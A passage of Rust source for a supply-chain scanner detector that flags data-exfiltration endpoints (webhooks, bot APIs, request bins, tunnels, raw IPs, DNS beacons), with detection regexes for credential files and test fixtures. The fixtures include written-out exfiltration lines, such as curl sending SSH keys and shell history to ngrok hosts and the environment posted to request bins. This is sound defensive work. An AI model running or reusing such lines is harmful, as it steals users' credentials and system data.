//! `network.exfiltration-endpoint`: hosts stolen data is typically sent to —
//! Discord/Slack webhooks, the Telegram bot API, paste sites, request bins and
//! out-of-band interaction hosts, tunnels (ngrok, trycloudflare) and anonymous
//! file drops. Raw code hosts count only in install-time files.
//!
//! Webhook/bot URLs whose id/token are example values (`T00000000/…/XXXXXXXX`,
//! `<token>`, `YOUR_…`) are skipped; a bare bot/webhook API base in runtime code is
//! medium (a library integration) unless the file also harvests credentials or
//! system facts; so is an API URL template whose token is a format slot
//! (`bot{0}/{1}`, `bot%s/`): exfiltration needs a sensitive source reaching the sink.
//!
//! A destination by reputation that is one bare-domain literal among many (a disposable-mail
//! blocklist) is Low: a list of domains is data about them — unless the file harvests (words
//! inside the list's own domain literals do not count), so 20 padding domains cannot hide a
//! collector that the environment is posted to.
//!
//! Harvesting includes reading the importing program's own source (`open(sys.argv[0])`,
//! `inspect.getsource(sys.modules['__main__'])`): code theft from whoever imports the package.
//!
//! Harvesting counts where it can run: Python code and strings, or a script (shell, batch,
//! PowerShell, `#!`); a data file listing host names (a public-suffix list) harvests nothing.
//!
//! Destinations by reputation come from [`super::reputation`] (the one list; a host inside a
//! sentence of a Python string, an example in a message, is Low):
//! paste sites and file drops Medium (install High); out-of-band collaborators, request
//! bins and tunnels likewise, but High (install Critical) when the file also harvests
//! credentials or system facts. A Python file that sends and names a URL on a throwaway
//! TLD, free hosting or a raw public IP: Medium, High when it also harvests (install
//! one step up).
//!
//! Also reports DNS exfiltration (see [`super::dns_exfil`]): a lookup of a name
//! built from harvested user/host/environment data, High (install time Critical).
//!
//! Matches the endpoint text in code, strings and non-Python files (it may be
//! concatenated, so no scheme is required); Python comments/docstrings, tests and
//! docs are skipped.

use super::net_ip_address::public_ip;
use super::pysrc::{self, Kind, MAX_HITS_PER_FILE};
use super::reputation::{self, Class};
use super::sinks::{self, SinkKind};
use super::urls;
use crate::model::{Category, FileRole, Severity};
use crate::scan::detector::{Detector, DetectorMeta, Hit, Hits, Interest, TextFile};
use regex::Regex;
use std::sync::LazyLock;

pub(crate) static META: DetectorMeta = DetectorMeta {
    id: "network.exfiltration-endpoint",
    revision: 9,
    title: "Contains endpoints commonly used for data exfiltration.",
    category: Category::Network,
    severity: Severity::High,
    description: "Webhooks, bot APIs, paste sites, request bins and tunnels are where credential stealers send what they collect.",
};

/// Webhook/bot APIs (high) and raw code hosts (install-time only). Paste sites, request
/// bins, collaborators, tunnels and file drops come from [`super::reputation`].
const ENDPOINT_PATTERN: &str = concat!(
    r"(?i)(?P<hook>(?-u:\b)(?:(?:canary\.|ptb\.)?discord(?:app)?\.com/api/(?:v\d+/)?webhooks|hooks\.slack\.com/(?:services|workflows)|api\.telegram\.org/bot|webhook\.office\.com))",
    r"|(?P<raw>(?-u:\b)(?:raw\.githubusercontent\.com|gist\.githubusercontent\.com|gitlab\.com/[^\s'\x22]+/-/raw/|bitbucket\.org/[^\s'\x22]+/raw/))",
);
static ENDPOINT: LazyLock<Regex> = LazyLock::new(|| Regex::new(ENDPOINT_PATTERN).expect("endpoint regex"));
/// [`ENDPOINT`] for anchored searches ([`pysrc::find_at_words`]).
static ENDPOINT_AT: LazyLock<regex_automata::meta::Regex> =
    LazyLock::new(|| regex_automata::meta::Regex::new(ENDPOINT_PATTERN).expect("endpoint regex"));
/// Words every [`ENDPOINT`] match starts with (case-insensitively).
static ENDPOINT_STARTS: LazyLock<aho_corasick::AhoCorasick> = LazyLock::new(|| {
    pysrc::gate(&[
        "canary.",
        "ptb.",
        "discord",
        "hooks.slack.com/",
        "api.telegram.org/bot",
        "webhook.office.com",
        "raw.githubusercontent.com",
        "gist.githubusercontent.com",
        "gitlab.com/",
        "bitbucket.org/",
    ])
});

/// `ENDPOINT.captures_iter(file.text)`, confirmed at the words its matches start with
/// ([`pysrc::captures_at_words`]; searched whole when a line holds many of them: an anchored
/// search from `gitlab.com/` reads the run of non-blank bytes after it, and one per word along
/// a long run would read it again and again).
fn endpoints<'t>(file: &TextFile<'t>) -> impl Iterator<Item = regex::Captures<'t>> {
    pysrc::captures_at_words(&ENDPOINT_AT, &ENDPOINT, file, &ENDPOINT_STARTS)
}

/// Example values in the webhook/bot URL's tail: `T00000000/B00000000/XXXXXXXX`,
/// `YOUR_WEBHOOK_ID`, `<token>`, `example`.
static PLACEHOLDER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)0{6,}|x{6,}|your[_-]|<\w|example|placeholder|redacted|\*{3,}|\.{3}").expect("placeholder")
});
/// Harvesting in the same file: what an endpoint next to it would carry off.
static HARVEST: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)(?:dict|json\.dumps)\s*\(\s*os\.environ|\.(?:bash|zsh)_history|~[/\\]\.env(?-u:\b)|os\.environ\.(?:copy|items)|getpass\.getuser|socket\.gethostname|platform\.(?:node|uname)|os\.getlogin|os\.uname|\.aws[/\\]+credentials|\.ssh[/\\]|Login Data|Local State|leveldb|tdata|\.git-credentials|\.netrc|browser_cookie|wallet|ipify|ipinfo\.io|ifconfig\.me|ImageGrab|pyautogui\.screenshot|clipboard|open\s*\([^)\n]*sys\.argv\s*\[\s*0|getsource\s*\(\s*(?:sys\.modules\s*\[\s*['\x22]__main__|__main__)").expect("harvest")
});

/// The URL's tail after the endpoint (`/123/abc` of a webhook), up to a quote or space.
fn tail(text: &str, end: usize) -> &str {
    let rest = &text[end..];
    let stop = rest.find(|c: char| c.is_whitespace() || "'\"`)>,;".contains(c)).unwrap_or(rest.len());
    &rest[..stop]
}

/// `tail` without its format slots (`{0}`, `{token}`, `{}`, `%s`, `%(name)s`, `%d`): what the
/// code itself writes into the URL, not what a caller fills in.
fn without_format_slots(tail: &str) -> String {
    static SLOT: LazyLock<Regex> =
        LazyLock::new(|| Regex::new(r"\{[^{}]*\}|%(?:\([A-Za-z_]\w*\))?[sdr]").expect("format slot"));
    SLOT.replace_all(tail, "").into_owned()
}

/// The prefilter: this detector's own literals, then the reputation list's and the DNS
/// exfiltration check's (it calls both), taken from their owners so they cannot drift.
static INTEREST: LazyLock<Vec<&'static str>> = LazyLock::new(|| {
    let own: &[&str] = &[
        "discord",
        "Discord",
        "hooks.slack",
        "api.telegram",
        "webhook",
        // code and files fetched raw from hosting sites
        "raw.githubusercontent",
        "gist.githubusercontent",
        "/-/raw/",
        "/raw/",
        // sends to throwaway/free/raw-IP destinations
        "requests.post",
        "requests.put",
        "httpx.post",
        "urlopen",
        "Request(",
        "sendall",
        "smtplib",
        "http.client",
    ];
    own.iter().chain(reputation::LITERALS).chain(super::dns_exfil::LITERALS).copied().collect()
});

/// Whether the host at `start..end` sits in a sentence of a Python string (an error or help
/// message): prose around it ([`super::fs_credential_access::in_prose`]) and at least four words
/// in the literal, so a URL with a user name or a path is not taken for one.
fn in_sentence(src: &super::pysrc::Source<'_>, start: usize, end: usize) -> bool {
    super::fs_credential_access::in_prose(src, start, end)
        && src.span_at(start).is_some_and(|s| src.text[s.body_start..s.body_end].split_whitespace().count() >= 4)
}

/// A string literal holding one bare domain name (no scheme, path or space).
static BARE_DOMAIN_LITERAL: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#"["'][A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)+["']"#).expect("bare domain literal"));
/// How many bare-domain literals around a host make a list of domains, and how far to look.
const DOMAIN_LIST_MIN: usize = 20;
const DOMAIN_LIST_WINDOW: usize = 2000;

/// Whether the host at `start..end` is a whole string literal (a bare domain) with at least
/// [`DOMAIN_LIST_MIN`] other bare-domain literals within [`DOMAIN_LIST_WINDOW`] bytes: an entry
/// of a list of domains (a blocklist), not an endpoint. A URL (`"https://webhook.site/…"`), a
/// host with a path, or a handful of hosts (a rotation of collectors) is not.
fn in_domain_list(src: &super::pysrc::Source<'_>, start: usize, end: usize) -> bool {
    let Some(span) = src.span_at(start).filter(|s| s.kind == Kind::Str) else {
        return false;
    };
    if span.body_start != start || span.body_end != end {
        return false;
    }
    let lo = pysrc::floor_char(src.text, start.saturating_sub(DOMAIN_LIST_WINDOW));
    let hi = pysrc::floor_char(src.text, (end + DOMAIN_LIST_WINDOW).min(src.text.len()));
    BARE_DOMAIN_LITERAL.find_iter(&src.text[lo..hi]).take(DOMAIN_LIST_MIN + 1).count() > DOMAIN_LIST_MIN
}

/// The longest domain name DNS allows: a longer literal is not one, and is not copied.
const MAX_DOMAIN_LEN: usize = 253;

/// Whether byte `at` lies inside a string literal holding one bare domain name: a harvest word
/// there (`"mywallet.example"` in a blocklist) names a domain, it reads nothing. Only literals
/// of a domain's length are looked at, so a package's megabyte string full of harvest words
/// costs no more than its length per word.
fn in_bare_domain_literal(src: &super::pysrc::Source<'_>, at: usize) -> bool {
    src.span_at(at).filter(|s| s.kind == Kind::Str).is_some_and(|s| {
        let body = &src.text[s.body_start..s.body_end];
        body.len() <= MAX_DOMAIN_LEN
            && BARE_DOMAIN_LITERAL.find(&format!("'{body}'")).is_some_and(|m| m.len() == body.len() + 2)
    })
}

/// Whether the host at byte `start` is the domain of an e-mail address (`name@host`): a
/// local part right before `@`, itself not preceded by `/` or `:` (a URL's `user@host` or
/// `user:password@host` userinfo names the host it connects to).
fn is_mail_domain(text: &str, start: usize) -> bool {
    let Some(before) = text[..start].strip_suffix('@') else {
        return false;
    };
    let local =
        before.len() - before.bytes().rev().take_while(|b| b.is_ascii_alphanumeric() || b"._%+-".contains(b)).count();
    local < before.len() && !before[..local].ends_with(['/', ':'])
}

pub(crate) struct ExfilEndpoint;

impl Detector for ExfilEndpoint {
    fn meta(&self) -> &'static DetectorMeta {
        &META
    }
    fn interest(&self) -> Interest {
        Interest::Literals(&INTEREST)
    }
    fn scan_text(&self, file: &TextFile<'_>, hits: &mut Hits) {
        if matches!(file.role, FileRole::TestOrDocs | FileRole::Metadata | FileRole::Binary) || pysrc::test_member(file)
        {
            return;
        }
        let src = file.source();
        let install = file.role == FileRole::InstallTime;
        if let Some((off, ind, sev)) = super::dns_exfil::find(file, src) {
            hits.push(&META, Hit { severity: Some(sev), evidence: pysrc::evidence(file, off, ind) });
        }
        // Harvesting is something code does: in Python code or strings, or in a script; words
        // in a data file (a domain list naming a wallet host, a comment) harvest nothing.
        let harvest = std::cell::OnceCell::new();
        let harvests = || {
            *harvest.get_or_init(|| {
                if src.python {
                    HARVEST.find_iter(file.text).any(|m| src.is_live(m.start()))
                } else {
                    super::context::is_script(file) && HARVEST.is_match(file.text)
                }
            })
        };
        // The same, with harvest words inside bare-domain literals left out: a blocklist that
        // names a wallet's domain harvests nothing, a file that reads the environment does.
        let harvest_in_code = std::cell::OnceCell::new();
        let harvests_in_code = || {
            *harvest_in_code.get_or_init(|| {
                harvests()
                    && HARVEST
                        .find_iter(file.text)
                        .any(|m| src.is_live(m.start()) && !in_bare_domain_literal(src, m.start()))
            })
        };
        let mut found: Vec<(usize, String, Severity)> = Vec::new();
        for c in endpoints(file) {
            let m = c.get(0).expect("match");
            if src.python && !matches!(src.kind_at(m.start()), Kind::Code | Kind::Str) {
                continue;
            }
            let sev = if c.name("hook").is_some() {
                let t = tail(file.text, m.end());
                if PLACEHOLDER.is_match(t) {
                    continue; // an example value in docs, config templates or help text
                }
                // A concrete webhook (id and token in the URL) is high at run time; the bare
                // API base (a library's Telegram/Slack integration) is medium unless the same
                // file harvests credentials or system facts.
                // Format slots (`bot{0}/{1}`, `bot{token}/`, `bot%s/%s`) are filled by the caller:
                // a client library's own API URL template, not a token written into the code.
                let filled = without_format_slots(t);
                let concrete = filled.trim_matches('/').len() >= 4 && filled.chars().any(|ch| ch.is_ascii_digit());
                if install {
                    Severity::Critical
                } else if concrete || harvests() {
                    Severity::High
                } else {
                    Severity::Medium
                }
            } else if install {
                Severity::Medium
            } else {
                continue;
            };
            found.push((m.start(), m.as_str().to_ascii_lowercase(), sev));
            if found.len() >= MAX_HITS_PER_FILE {
                break;
            }
        }
        // Destinations by reputation. Collaborators, request bins and tunnels exist to
        // receive calls: next to harvesting they are a beacon (high, install critical).
        let listed = reputation::may_be_in(file).then(|| reputation::in_text(file.text));
        for (start, end, class) in listed.into_iter().flatten().take(MAX_HITS_PER_FILE) {
            if src.python && !matches!(src.kind_at(start), Kind::Code | Kind::Str) {
                continue;
            }
            let host = file.text[start..end].to_ascii_lowercase();
            // `admin@<host>` (an author's address in setup.py): a mail domain, not the site's
            // service; nothing is sent there by naming it.
            if is_mail_domain(file.text, start) {
                found.push((start, format!("{host} (an e-mail address's domain)"), Severity::Low));
                continue;
            }
            // A host named inside a sentence (an error or help message: "expects only the
            // hostname (e.g., 'mybot.ngrok.io')") is an example shown to a person, not where the
            // code sends anything.
            if src.python && in_sentence(src, start, end) {
                found.push((start, format!("{host} ({}, named in a message)", class.as_str()), Severity::Low));
                continue;
            }
            // One bare domain among many in a list (a disposable-mail blocklist, a list of
            // hosts to refuse): data about the host, not a place the code sends anything —
            // unless the file harvests, where padding a collector with 20 domains must not hide it.
            if src.python && in_domain_list(src, start, end) && !harvests_in_code() {
                found.push((start, format!("{host} ({}, one of a list of domains)", class.as_str()), Severity::Low));
                continue;
            }
            let receiver = matches!(class, Class::Collaborator | Class::RequestBin | Class::Tunnel);
            let sev = match (install, receiver && harvests()) {
                (true, true) => Severity::Critical,
                (true, false) | (false, true) => Severity::High,
                (false, false) => Severity::Medium,
            };
            found.push((start, format!("{host} ({})", class.as_str()), sev));
        }
        // Sends to a destination with no name to lose: a throwaway TLD, free hosting or a
        // raw public IP, in a Python file that sends (medium) or harvests and sends (high).
        // The URLs first: the member's sinks are searched only when one of them qualifies (most
        // members name none; every step is pure, so the order does not change what is reported).
        if src.python && file.text.contains("://") {
            let named: Vec<_> = urls::find(src)
                .take(MAX_HITS_PER_FILE)
                .filter_map(|u| match reputation::of_url(&u.host, u.path) {
                    Some(c @ (Class::ThrowawayTld | Class::FreeHosting)) => Some((u, c.as_str())),
                    _ if public_ip(&u.host) => Some((u, "raw IP")),
                    _ => None,
                })
                .collect();
            if !named.is_empty() {
                let net = sinks::find(src, &[SinkKind::Send, SinkKind::Fetch]);
                let send = net.iter().find(|s| s.kind == SinkKind::Send && !s.name.ends_with("connect"));
                if let Some(sink) = send.or(net.first()).filter(|_| send.is_some() || harvests()) {
                    for (u, class) in named {
                        let sev = match (install, harvests()) {
                            (true, true) => Severity::Critical,
                            (true, false) | (false, true) => Severity::High,
                            (false, false) => Severity::Medium,
                        };
                        found.push((u.offset, format!("{} ({class}) + {}", u.host, sink.name), sev));
                    }
                }
            }
        }
        found.sort_by_key(|f| f.0);
        for (off, ind, sev) in found.into_iter().take(MAX_HITS_PER_FILE) {
            hits.push(&META, Hit { severity: Some(sev), evidence: pysrc::evidence(file, off, ind) });
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scan::detectors::testutil::table;
    use FileRole::*;
    use Severity::*;

    #[test]
    fn prefilter_covers_the_dns_exfiltration_and_reputation_literals() {
        let Interest::Literals(mine) = ExfilEndpoint.interest() else { panic!("literal prefilter expected") };
        for lit in super::super::dns_exfil::LITERALS.iter().chain(reputation::LITERALS) {
            assert!(mine.contains(lit), "{lit} missing from the prefilter");
        }
    }

    #[test]
    fn many_start_words_on_one_line_cost_linear_time() {
        // A run without a blank holding tens of thousands of the words an endpoint match starts
        // with: an anchored search from each would read the rest of the run.
        let make = |n: usize| {
            let mut s = String::from("import requests, os\nx = '");
            s.push_str(&"gitlab.com/a".repeat(n));
            s.push_str(&"bitbucket.org/b".repeat(n));
            s.push_str("'\nrequests.post('https://x.ngrok.io/c', data=os.environ.copy())\n");
            s
        };
        let time = |text: &str| {
            let file = TextFile::new("pkg/a.py", FileRole::Runtime, true, text);
            let t = std::time::Instant::now();
            let mut hits = Hits::default();
            ExfilEndpoint.scan_text(&file, &mut hits);
            (t.elapsed(), hits.len())
        };
        let (t1, _) = time(&make(5_000));
        let (t4, found) = time(&make(20_000));
        assert_eq!(found, 1, "the tunnel next to the harvest is still found");
        assert!(t4 < std::time::Duration::from_secs(2), "{t4:?} for 20,000");
        assert!(t4 < t1 * 12 + std::time::Duration::from_millis(100), "5,000 took {t1:?}, 20,000 took {t4:?}");
    }

    #[test]
    fn endpoint_search_at_its_words_is_the_whole_search() {
        let groups = |c: regex::Captures<'_>| {
            (c.get(0).expect("m").range(), c.name("hook").map(|m| m.range()), c.name("raw").map(|m| m.range()))
        };
        let check = |name: &str, text: &str| {
            let file = TextFile::new("pkg/a.py", FileRole::Runtime, true, text);
            let at: Vec<_> = endpoints(&file).map(groups).collect();
            assert_eq!(at, ENDPOINT.captures_iter(text).map(groups).collect::<Vec<_>>(), "{name}");
            at.len()
        };
        let cases = [
            ("empty", ""),
            ("webhooks", "'https://discord.com/api/webhooks/1/a' 'https://CANARY.discordapp.com/api/v10/webhooks/2'"),
            ("ptb", "u = 'ptb.discord.com/api/webhooks/3/b'"),
            ("slack, telegram, office", "hooks.slack.com/services/T/B/x api.telegram.org/bot123:a x.webhook.office.com/y"),
            ("raw hosts", "raw.githubusercontent.com/a/b gist.githubusercontent.com/c gitlab.com/a/b/-/raw/m bitbucket.org/a/raw/m"),
            ("words inside words", "xdiscord.com/api/webhooks notraw.githubusercontent.com canary.x discord.gg"),
            ("bare discord", "see discord for help; discord.com/invite"),
            ("non-ASCII text", "é discord.com/api/webhooks/1/a; ſ hooks.ſlack.com/ſervices/x"),
        ];
        for (name, text) in cases {
            check(name, text);
        }
        let pieces = [
            "discord",
            "DiscordApp",
            ".com/api/",
            "v9/",
            "webhooks",
            "canary.",
            "ptb.",
            "hooks.slack.com/",
            "services",
            "api.telegram.org/bot",
            "webhook.office.com",
            "raw.githubusercontent.com",
            "gist.",
            "githubusercontent.com",
            "gitlab.com/",
            "bitbucket.org/",
            "/-/raw/",
            "/raw/",
            "a",
            "_",
            " ",
            "'",
            "\n",
            "é",
            "\u{212a}",
        ];
        let mut found = 0;
        for text in pysrc::random_texts(&pieces, 24, 0x2545_f491_4f6c_dd1du64, 3000) {
            found += check(&text, &text);
        }
        assert!(found > 300, "the random texts hold matches: {found}");
    }

    #[test]
    fn a_bare_host_in_a_list_of_domains_is_data_and_a_sent_to_host_still_counts() {
        use crate::scan::detectors::testutil::scan;
        let many: String = (0..30)
            .map(|i| format!("\"disposable{i}.example\","))
            .chain(["\"mywallet.example\",".to_string()])
            .collect();
        let list = format!("blacklist = set([{many}\"webhook.site\",{many}])\n");
        let cases: &[(&str, String, Severity)] = &[
            ("a disposable-mail blocklist naming a request bin (and a wallet domain)", list.clone(), Low),
            (
                "the same list beside a harvest posted to the request bin's URL",
                format!("{list}requests.post('https://webhook.site/abc', data=dict(os.environ))\n"),
                High,
            ),
            (
                "a collector padded into a list of 60 domains, its entry posted the environment",
                format!("{list}requests.post('https://' + blacklist_hosts[30] + '/abc', data=dict(os.environ))\n"),
                High,
            ),
            (
                "a collector in a list of domains beside a domain-shaped string too long to be a domain",
                format!("{list}NOTE = '{}x'\n", "wallet.".repeat(100)),
                High,
            ),
            (
                "a short rotation of collectors in a harvesting file",
                "HOSTS = ['webhook.site', 'pipedream.net']\nrequests.post('https://' + HOSTS[0], data=socket.gethostname())\n".to_string(),
                High,
            ),
        ];
        for (name, text, want) in cases {
            let got = scan(&ExfilEndpoint, "pkg/MailChecker.py", FileRole::Runtime, text);
            let worst = got.iter().map(|g| g.severity).max();
            assert_eq!(worst, Some(*want), "{name}: {got:?}");
        }
    }

    #[test]
    fn cases() {
        table(
            &ExfilEndpoint,
            META.id,
            &[
                (
                    "discord webhook",
                    "pkg/a.py",
                    Runtime,
                    "W = 'https://discord.com/api/webhooks/123/abc'\n",
                    Some((1, "discord.com/api/webhooks", High)),
                ),
                (
                    "telegram in setup.py",
                    "setup.py",
                    InstallTime,
                    "\nu = 'https://api.telegram.org/bot' + T\n",
                    Some((2, "api.telegram.org/bot", Critical)),
                ),
                (
                    "dns exfiltration of user and host",
                    "pkg/__init__.py",
                    Runtime,
                    "import socket, getpass, platform, base64\nd = base64.b32encode((getpass.getuser() + '@' + platform.node()).encode()).decode().strip('=')\nsocket.gethostbyname(d + '.oob.example.org')\n",
                    Some((3, "DNS lookup of harvested data (socket.gethostbyname)", High)),
                ),
                (
                    "dns beacon with env in setup.py",
                    "setup.py",
                    InstallTime,
                    "import socket, os\nsocket.getaddrinfo(os.environ['USER'] + '.' + os.getcwd().replace('/', '-') + '.x.example.org', 80)\n",
                    Some((2, "DNS lookup of harvested data (socket.getaddrinfo)", Critical)),
                ),
                (
                    "own address from own host name",
                    "pkg/net.py",
                    Runtime,
                    "import socket\nip = socket.gethostbyname(socket.gethostname())\n",
                    None,
                ),
                (
                    "resolve the local host name with a port",
                    "pkg/net.py",
                    Runtime,
                    "host = socket.gethostname()\ninfos = socket.getaddrinfo(host, port)\n",
                    None,
                ),
                ("localhost lookup", "pkg/net.py", Runtime, "socket.gethostbyname(\"localhost\")\n", None),
                (
                    "lookup of a configured host next to an env read",
                    "pkg/net.py",
                    Runtime,
                    "home = os.environ.get('HOME')\naddr = socket.gethostbyname(cfg.host + '.svc.example.org')\n",
                    None,
                ),
                (
                    "an author's e-mail address at a paste site's domain in setup.py",
                    "setup.py",
                    InstallTime,
                    "setup(name='x',\n      author_email='admin@pastebin.com')\n",
                    Some((2, "pastebin.com (an e-mail address's domain)", Low)),
                ),
                (
                    "a paste-site URL with user and password in setup.py",
                    "setup.py",
                    InstallTime,
                    "u = 'https://user:pw@pastebin.com/raw/abc'\n",
                    Some((1, "pastebin.com (paste site)", High)),
                ),
                (
                    "a paste-site URL with a user name in setup.py",
                    "setup.py",
                    InstallTime,
                    "u = 'https://bot@pastebin.com/raw/abc'\n",
                    Some((1, "pastebin.com (paste site)", High)),
                ),
                (
                    "paste site",
                    "pkg/a.py",
                    Runtime,
                    "u = 'https://pastebin.com/raw/abc'\n",
                    Some((1, "pastebin.com (paste site)", Medium)),
                ),
                (
                    "ngrok",
                    "pkg/a.py",
                    Runtime,
                    "H = 'abc123.ngrok-free.app'\n",
                    Some((1, "abc123.ngrok-free.app (tunnel)", Medium)),
                ),
                (
                    "raw host at install",
                    "setup.py",
                    InstallTime,
                    "u = 'https://raw.githubusercontent.com/x/y/main/p.py'\n",
                    Some((1, "raw.githubusercontent.com", Medium)),
                ),
                (
                    "raw host at runtime",
                    "pkg/a.py",
                    Runtime,
                    "u = 'https://raw.githubusercontent.com/x/y/main/data.json'\n",
                    None,
                ),
                (
                    "a public-suffix list naming tunnels and a wallet host",
                    "pkg/public_suffix_list.dat",
                    Other,
                    "// wallet hosting\nmywallet.example\n// ngrok\nngrok.io\n",
                    Some((4, "ngrok.io (tunnel)", Medium)),
                ),
                (
                    "a shell script sending an SSH key to a tunnel",
                    "pkg/bin/sync.sh",
                    Other,
                    "#!/bin/sh\ncurl -d @$HOME/.ssh/id_rsa https://ab12.ngrok.io/k\n",
                    Some((2, "ab12.ngrok.io (tunnel)", High)),
                ),
                (
                    "a script without an extension, by its #! line",
                    "pkg/bin/sync",
                    Other,
                    "#!/bin/bash\ncat ~/.bash_history | curl -d @- https://ab12.ngrok.io/h\n",
                    Some((2, "ab12.ngrok.io (tunnel)", High)),
                ),
                (
                    "harvest words only in a comment of a Python file",
                    "pkg/a.py",
                    Runtime,
                    "# never read the wallet or ~/.ssh/ here\nHOST = 'abc123.ngrok-free.app'\n",
                    Some((2, "abc123.ngrok-free.app (tunnel)", Medium)),
                ),
                (
                    "a tunnel host given as an example in an error message, in a file that reads the environment",
                    "pipecat/runner/run.py",
                    Runtime,
                    "h = socket.gethostname()\nif '://' in proxy:\n    raise ValueError(f\"The --proxy argument expects only the hostname (e.g., 'mybot.ngrok.io').\")\n",
                    Some((3, "mybot.ngrok.io (tunnel, named in a message)", Low)),
                ),
                (
                    "the same tunnel host as the URL a harvest is posted to",
                    "pkg/a.py",
                    Runtime,
                    "h = socket.gethostname()\nrequests.post('https://mybot.ngrok.io/c', data=h)\n",
                    Some((2, "mybot.ngrok.io (tunnel)", High)),
                ),
                (
                    "host name harvested in code next to a tunnel",
                    "pkg/a.py",
                    Runtime,
                    "h = socket.gethostname()\nHOST = 'abc123.ngrok-free.app'\n",
                    Some((2, "abc123.ngrok-free.app (tunnel)", High)),
                ),
                ("webhook in comment", "pkg/a.py", Runtime, "# see https://discord.com/api/webhooks\nx = 1\n", None),
                ("discord word only", "pkg/a.py", Runtime, "NAME = 'discord.py bot'\n", None),
                ("tests", "pkg/tests/t.py", Runtime, "W = 'https://discord.com/api/webhooks/1/a'\n", None),
                (
                    "telegram api base in runtime library code",
                    "tqdm/contrib/telegram.py",
                    Runtime,
                    "class TelegramIO:\n    API = 'https://api.telegram.org/bot'\n",
                    Some((2, "api.telegram.org/bot", Medium)),
                ),
                (
                    "a bot client library's own API URL template with format slots",
                    "telebot/apihelper.py",
                    Runtime,
                    "def _make_request(token, method_name):\n    request_url = 'https://api.telegram.org/bot{0}/{1}'.format(token, method_name)\n",
                    Some((2, "api.telegram.org/bot", Medium)),
                ),
                (
                    "an API URL template with named and printf slots",
                    "pkg/bot.py",
                    Runtime,
                    "A = 'https://api.telegram.org/bot{token}/{method}'\nB = 'https://api.telegram.org/bot%s/%s' % (t, m)\n",
                    Some((1, "api.telegram.org/bot", Medium)),
                ),
                (
                    "a concrete bot token with a format slot for the method",
                    "pkg/a.py",
                    Runtime,
                    "U = 'https://api.telegram.org/bot7123456789:AAHfakeTokenValue/{0}'\n",
                    Some((1, "api.telegram.org/bot", High)),
                ),
                (
                    "a URL template next to system-info harvesting",
                    "pkg/a.py",
                    Runtime,
                    "U = 'https://api.telegram.org/bot{0}/sendMessage'\ninfo = socket.gethostname()\n",
                    Some((1, "api.telegram.org/bot", High)),
                ),
                (
                    "telegram api base next to system-info harvesting",
                    "pkg/a.py",
                    Runtime,
                    "API = 'https://api.telegram.org/bot'\ninfo = socket.gethostname() + getpass.getuser()\n",
                    Some((1, "api.telegram.org/bot", High)),
                ),
                (
                    "placeholder slack webhook in example values",
                    "pkg/proxy/_types.py",
                    Runtime,
                    "EX = {'budget_alerts': 'https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX'}\n",
                    None,
                ),
                (
                    "placeholder discord webhook",
                    "pkg/a.py",
                    Runtime,
                    "URL = 'https://discord.com/api/webhooks/<webhook id>/<token>'\n",
                    None,
                ),
                (
                    "host name suffix is not the webhook host",
                    "pkg/a.py",
                    Runtime,
                    "u = 'https://nothooks.slack.com/services/T1/B2/abc'\n",
                    None,
                ),
                (
                    "dns beacon through an f-string to a collaborator",
                    "pkg/__init__.py",
                    Runtime,
                    "import socket, getpass, os\nsocket.gethostbyname(f\"{getpass.getuser()}.{socket.gethostname()}.c1.oast.fun\")\n",
                    Some((2, "DNS lookup of harvested data (socket.gethostbyname)", High)),
                ),
                (
                    "dns beacon name built in a variable",
                    "setup.py",
                    InstallTime,
                    "import socket, getpass\nu = getpass.getuser()\nname = f'{u}.{socket.gethostname()}.x.example.org'\nsocket.gethostbyname(name)\n",
                    Some((4, "DNS lookup of harvested data (socket.gethostbyname)", Critical)),
                ),
                (
                    "collaborator callback with host and user",
                    "pkg/a.py",
                    Runtime,
                    "import requests, socket, getpass\nrequests.get('http://c1abc.oast.pro/cb', params={'h': socket.gethostname(), 'u': getpass.getuser()})\n",
                    Some((2, "c1abc.oast.pro (out-of-band collaborator)", High)),
                ),
                (
                    "dependency-confusion callback in setup.py",
                    "setup.py",
                    InstallTime,
                    "import os, urllib.request\nurllib.request.urlopen('https://eo2abc.m.pipedream.net/?d=' + os.getcwd() + getpass.getuser())\n",
                    Some((2, "eo2abc.m.pipedream.net (request bin)", Critical)),
                ),
                (
                    "localtunnel endpoint alone",
                    "pkg/a.py",
                    Runtime,
                    "BASE = 'https://quiet-fox-12.loca.lt/api'\n",
                    Some((1, "quiet-fox-12.loca.lt (tunnel)", Medium)),
                ),
                (
                    "request bin at install without harvesting",
                    "setup.py",
                    InstallTime,
                    "import requests\nrequests.get('https://webhook.site/4f1c')\n",
                    Some((2, "webhook.site (request bin)", High)),
                ),
                (
                    "file drop",
                    "pkg/a.py",
                    Runtime,
                    "requests.post('https://transfer.sh/x', data=blob)\n",
                    Some((1, "transfer.sh (file drop)", Medium)),
                ),
                (
                    "host and user posted to a throwaway TLD",
                    "pkg/__init__.py",
                    Runtime,
                    "import requests, socket, getpass\nrequests.post('https://pkg-stats.tk/c', json={'h': socket.gethostname(), 'u': getpass.getuser()})\n",
                    Some((2, "pkg-stats.tk (throwaway TLD) + requests.post", High)),
                ),
                (
                    "env file posted to a raw IP at install",
                    "setup.py",
                    InstallTime,
                    "import requests\nrequests.post('http://45.77.12.9:8000/u', data=open('.env').read())\n",
                    Some((2, "45.77.12.9 (raw IP) + requests.post", High)),
                ),
                (
                    "the importing program's source posted to a raw IP",
                    "pkg/__init__.py",
                    Runtime,
                    "import sys, requests\nsrc = open(os.path.abspath(sys.argv[0])).read()\nrequests.post('http://45.77.12.9:8080/s', data={'s': src})\n",
                    Some((3, "45.77.12.9 (raw IP) + requests.post", High)),
                ),
                (
                    "only the program's name reported to a raw IP stays medium",
                    "pkg/telemetry.py",
                    Runtime,
                    "import sys, os, requests\nrequests.post('http://45.77.12.9:8080/s', data={'prog': os.path.basename(sys.argv[0])})\n",
                    Some((2, "45.77.12.9 (raw IP) + requests.post", Medium)),
                ),
                (
                    "fetch from a raw IP without harvesting is left to the URL detectors",
                    "pkg/a.py",
                    Runtime,
                    "r = requests.get('http://45.77.12.9/data.json')\n",
                    None,
                ),
                (
                    "http client library posting to the configured URL",
                    "httpkit/client.py",
                    Runtime,
                    "class Client:\n    def post(self, url, data):\n        return requests.post(url, data=data)\n",
                    None,
                ),
                (
                    "shell history sent to a request bin",
